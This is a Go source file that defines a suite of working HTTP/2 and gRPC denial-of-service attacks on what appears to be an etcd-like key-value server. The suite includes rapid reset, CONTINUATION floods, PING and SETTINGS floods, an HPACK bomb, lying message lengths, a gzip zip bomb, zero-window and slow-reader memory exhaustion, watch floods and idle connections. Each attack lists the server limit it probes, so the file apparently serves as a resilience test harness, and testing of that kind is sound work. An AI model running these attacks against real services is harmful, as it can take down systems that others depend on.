package attack

import (
	"errors"

	"golang.org/x/net/http2"
	"google.golang.org/protobuf/encoding/protowire"
)

// burst is how many frames or requests one Turn sends.
const burst = 100

// repeat makes a Turn of a burst of f.
func repeat(f func(c *Conn) error) func(c *Conn) error {
	return func(c *Conn) error {
		for range burst {
			if err := f(c); err != nil {
				return err
			}
		}
		return nil
	}
}

// rangeOf is a RangeRequest for all keys from key up to end.
func rangeOf(key, end string) []byte {
	p := protowire.AppendString(protowire.AppendTag(nil, 1, protowire.BytesType), key)
	return protowire.AppendString(protowire.AppendTag(p, 2, protowire.BytesType), end)
}

var errEnough = errors.New("enough")

var bomb = gzipped(64 << 20)

// All returns every attack that needs no TLS; inside it they do the same. A list of all keys from key up to end is what those ask for that make the server
// work and do not read the answer.
func All(key, end string) []*Attack {
	list := rangeOf(key, end)
	return []*Attack{
		{Name: "rapid reset", Limits: []string{"resets"}, Conns: 4, Turn: repeat(func(c *Conn) error {
			return errors.Join(c.headers(rangePath, false), c.message(0, len(list), list, true), c.Fr.WriteRSTStream(c.ID, http2.ErrCodeCancel))
		})},
		{Name: "made you reset", Limits: []string{"resets"}, Conns: 4, Turn: repeat(func(c *Conn) error {
			err := c.headers(rangePath, false)
			if c.ID%4 == 1 { // half of them with work for the server
				err = errors.Join(err, c.message(0, len(list), list, false))
			}
			return errors.Join(err, c.Fr.WriteWindowUpdate(c.ID, 0))
		})},
		{Name: "streams without end", Limits: []string{"streams"}, Conns: 4, Turn: repeat(func(c *Conn) error {
			return c.headers(rangePath, false)
		})},
		{Name: "CONTINUATION flood", Limits: []string{"continuations", "header_block"}, Conns: 4, Open: func(c *Conn) error {
			return c.Fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
		}, Turn: repeat(func(c *Conn) error { return c.Fr.WriteContinuation(1, false, []byte{0x82}) })},
		{Name: "CONTINUATION bytes", Limits: []string{"continuations", "header_block"}, Conns: 4, Open: func(c *Conn) error {
			return c.Fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
		}, Turn: repeat(func(c *Conn) error { return c.Fr.WriteContinuation(1, false, make([]byte, 16<<10)) })},
		{Name: "SETTINGS flood", Limits: []string{"idle_frames"}, Conns: 4, Turn: repeat(func(c *Conn) error {
			return c.Fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16})
		})},
		{Name: "PING flood", Limits: []string{"pings"}, Conns: 4, Turn: repeat(func(c *Conn) error {
			return c.Fr.WritePing(false, [8]byte{})
		})},
		{Name: "PING flood, deaf", Limits: []string{"pings", "control_replies"}, Conns: 4, Deaf: true, Turn: repeat(func(c *Conn) error {
			return c.Fr.WritePing(false, [8]byte{})
		})},
		{Name: "empty DATA", Limits: []string{"idle_frames"}, Conns: 4, Open: func(c *Conn) error {
			return c.headers(watchPath, false)
		}, Turn: repeat(func(c *Conn) error { return c.Fr.WriteData(1, false, nil) })},
		{Name: "PRIORITY churn", Limits: []string{"idle_frames"}, Conns: 4, Turn: repeat(func(c *Conn) error {
			return c.Fr.WritePriority(9, http2.PriorityParam{StreamDep: 3, Weight: 7})
		})},
		{Name: "unknown frames", Limits: []string{"idle_frames"}, Conns: 4, Turn: repeat(func(c *Conn) error {
			return c.Fr.WriteRawFrame(0x77, 0, 0, nil)
		})},
		{Name: "HPACK bomb", Limits: []string{"header_list"}, Conns: 4, Turn: repeat(func(c *Conn) error {
			big := string(make1(3000))
			more := make([]string, 0, 2000)
			for range 1000 {
				more = append(more, "x", big) // one byte each, from the second on
			}
			return c.headers(rangePath, true, more...)
		})},
		{Name: "tiny fields", Limits: []string{"header_list"}, Conns: 4, Turn: repeat(func(c *Conn) error {
			more := make([]string, 0, 20000)
			for range 8000 {
				more = append(more, "x", "")
			}
			return c.headers(rangePath, true, more...)
		})},
		{Name: "lying lengths", Limits: []string{"message_bytes", "partial_messages", "streams"}, Conns: 4, Turn: repeat(func(c *Conn) error {
			size := 2 << 20
			if c.ID%4 == 1 {
				size = 1<<32 - 1
			}
			return errors.Join(c.headers(rangePath, false), c.message(0, size, make([]byte, 8<<10), false))
		})},
		{Name: "frame of 16 MiB", Limits: []string{"protocol_errors"}, Conns: 4, Turn: func(c *Conn) error {
			_, err := c.W.Write([]byte{0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1})
			return err
		}},
		{Name: "garbage", Limits: []string{"protocol_errors"}, Conns: 4, Raw: true, Turn: func(c *Conn) error {
			_, err := c.W.Write(make1(1000))
			return err
		}},
		{Name: "zip bombs", Limits: []string{"message_bytes", "inflated_bytes"}, Conns: 4, Turn: func(c *Conn) error {
			return errors.Join(c.headers(rangePath, false, "grpc-encoding", "gzip"), c.message(1, len(bomb), bomb, true))
		}},
		{Name: "zero window", Limits: []string{"waiting_replies", "memory", "no_window"}, Conns: 20, Open: func(c *Conn) error {
			return c.Fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		}, Turn: func(c *Conn) error {
			err := errors.Join(c.headers(rangePath, false), c.message(0, len(list), list, true))
			if c.ID > 2*burst { // and drip one byte to each
				err = errors.Join(err, c.Fr.WriteWindowUpdate(c.ID-2*burst, 1))
			}
			return err
		}},
		{Name: "lists, deaf", Limits: []string{"memory", "waiting_replies", "no_window", "stalled_reader"}, Conns: 200, Deaf: true, Open: func(c *Conn) error {
			return errors.Join(c.Fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}),
				c.Fr.WriteWindowUpdate(0, 1<<31-1-65535))
		}, Turn: func(c *Conn) error {
			return errors.Join(c.headers(rangePath, false), c.message(0, len(list), list, true))
		}},
		{Name: "lists, a byte at a time", Limits: []string{"memory", "waiting_replies", "no_window", "stalled_reader"}, Conns: 50, Drip: true, Open: func(c *Conn) error {
			return errors.Join(c.Fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}),
				c.Fr.WriteWindowUpdate(0, 1<<31-1-65535))
		}, Turn: func(c *Conn) error {
			return errors.Join(c.headers(rangePath, false), c.message(0, len(list), list, true))
		}},
		{Name: "watches", Limits: []string{"watches", "pending_creates", "streams"}, Conns: 2, Open: func(c *Conn) error {
			return c.headers(watchPath, false)
		}, Turn: repeat(func(c *Conn) error {
			create := protowire.AppendString(protowire.AppendTag(nil, 1, protowire.BytesType), "w")
			create = protowire.AppendVarint(protowire.AppendTag(create, 3, protowire.VarintType), 1<<40) // from far in the future
			msg := protowire.AppendBytes(protowire.AppendTag(nil, 1, protowire.BytesType), create)
			return c.message(0, len(msg), msg, false)
		})},
		{Name: "silence", Limits: []string{"preface_time"}, Conns: 500, Raw: true},
		{Name: "connect and leave", Conns: 4, Raw: true, Turn: func(c *Conn) error { return errEnough }},
	}
}

// make1 is n times the letter x: zero bytes are malformed in fields.
func make1(n int) []byte {
	p := make([]byte, n)
	for i := range p {
		p[i] = 'x'
	}
	return p
}
